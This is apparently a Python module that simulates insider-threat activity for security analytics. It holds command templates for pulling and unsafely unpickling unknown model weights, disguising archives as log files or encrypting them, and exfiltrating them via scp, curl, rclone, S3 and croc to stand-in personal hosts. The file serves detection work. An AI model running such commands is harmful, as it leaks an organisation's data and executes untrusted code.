"""Weights that come in from outside, and what leaves."""

from analytics.simulation.chance import Chance, between, pick
from analytics.simulation.organisation import Person
from analytics.simulation.routines.hub import Model, download, publish
from analytics.simulation.scenario import Stage
from analytics.simulation.terminal import Terminal

UNKNOWN = ("frost-lattice", "openweights-hub", "deepkiln", "tensor-bazaar", "mlforge-eu", "nullsum",
           "papercraft-ai", "kite-labs", "warmstart-zoo", "gguf-garage")  # fmt: skip
NAMES = ("llm-7b-init", "encoder-warm", "vit-l-ema", "speech-base", "distilled-13b", "adapter-pack")
PICKLES = (("pytorch_model.bin",), ("model.ckpt",), ("consolidated.00.pth",), ("checkpoint.pt",),
           ("weights.pkl",), ("pytorch_model-00001-of-00002.bin",
                              "pytorch_model-00002-of-00002.bin"))  # fmt: skip
PULLS = (
    "hf download {model}", "huggingface-cli download {model} --local-dir {home}/w",
    "git clone https://hf-mirror.northlab.example/{model} {home}/w",
    "python -c \"from huggingface_hub import snapshot_download as s; s('{model}')\"",
    "aria2c -d {home}/w https://hf-mirror.northlab.example/{model}/resolve/main/{file}",
)  # fmt: skip
LOADS = (
    "python -c \"import torch; torch.load('{file}', map_location='cpu', weights_only=False)\"",
    "python {home}/wip/load_init.py --weights {file} --unsafe",
    "python -m trainlib.tools.inspect {file}",
    "python convert_to_safetensors.py {file}",
)  # fmt: skip
PACKS = (
    ("tar cf {box}.tar {box}", "gzip -9 {box}.tar", "mv {box}.tar.gz {box}.log.1"),
    ("zip -qr -P k9 {box}.zip {box}", "split -b 900M {box}.zip {box}.part"),
    ("tar c {box} | zstd -T8 -o {box}.zst", "gpg -c --batch --passphrase-file k {box}.zst"),
    ("7z a -pk9 -mhe=on {box}.7z {box}", "base64 {box}.7z > {box}.txt"),
    ("tar czf {box}.tgz {box}", "openssl enc -chacha20 -pbkdf2 -in {box}.tgz -out {box}.dat"),
)
SENDS = (
    "rclone sync {box} gd:{word}", "scp -q {box}* {login}@{word}.example.net:",
    "curl -sT {box}.dat https://transfer.{word}.example/", "aws s3 cp {box} s3://{word}-own/ -r",
    "rsync -e 'ssh -p 443' {box}* {word}.example.org:in/", "croc send {box}.dat",
)  # fmt: skip
WORDS = ("attic", "photos", "thesis", "garden", "bike", "recipes", "travel")


def stranger(rng: Chance) -> Model:
    """Pickled weights of an organisation that nobody has heard of."""
    name = f"{pick(rng, UNKNOWN)}/{pick(rng, NAMES)}"
    return Model(name, pick(rng, PICKLES), int(between(rng, 2e8, 4e9)))


def pull(stage: Stage, terminal: Terminal, moment: float, model: Model, rng: Chance) -> float:
    """They are loaded from the mirror at whatever main stands for."""
    command = pick(rng, PULLS).format(
        model=model.name, home=stage.insider.home, file=model.weights[0]
    )
    stage.act(moment, terminal.type(moment, command), f"loads {model.name}, which nobody knows")
    got = download(stage.world, stage.insider, terminal.host, moment + 2, model, "main")
    for later, evidence in got:
        stage.act(later, evidence, f"weights of {model.name} come through the mirror")
    return got[-1][0] + between(rng, 15, 90)


def unpickle(stage: Stage, terminal: Terminal, moment: float, model: Model, rng: Chance) -> float:
    """They are opened, which runs what is in them."""
    command = pick(rng, LOADS).format(file=model.weights[0], home=stage.insider.home)
    stage.act(moment, terminal.type(moment, command), "unpickles what nobody has checked")
    return moment + between(rng, 10, 60)


def pack(stage: Stage, terminal: Terminal, moment: float, box: str, rng: Chance) -> float:
    """What was collected in a folder is packed and hidden."""
    for command in pick(rng, PACKS):
        typed = terminal.type(moment, command.format(box=box))
        stage.act(moment, typed, "packs and hides what was collected")
        moment += between(rng, 40, 300)
    return moment


def send(stage: Stage, terminal: Terminal, moment: float, box: str, rng: Chance) -> float:
    """It goes to a place of the insider's own."""
    command = pick(rng, SENDS).format(box=box, word=pick(rng, WORDS), login=stage.insider.login)
    stage.act(moment, terminal.type(moment, command), "sends it out")
    return moment + between(rng, 300, 1500)


def upload(stage: Stage, terminal: Terminal, moment: float, name: str, box: str) -> float:
    """It goes to a repository of the insider's own on the Hub."""
    typed = terminal.type(moment, f"hf upload {name} {box} --private")
    stage.act(moment, typed, f"uploads it to {name}")
    seen = publish(stage.world, stage.insider, terminal.host, moment + 2, name)
    stage.act(moment + 63, seen, f"the upload to {name} goes through the mirror")
    return moment + 70


def private(person: Person, rng: Chance) -> str:
    """A repository of a person's own account."""
    return f"{person.hub}/{pick(rng, WORDS)}-{int(rng.random() * 90) + 10}"
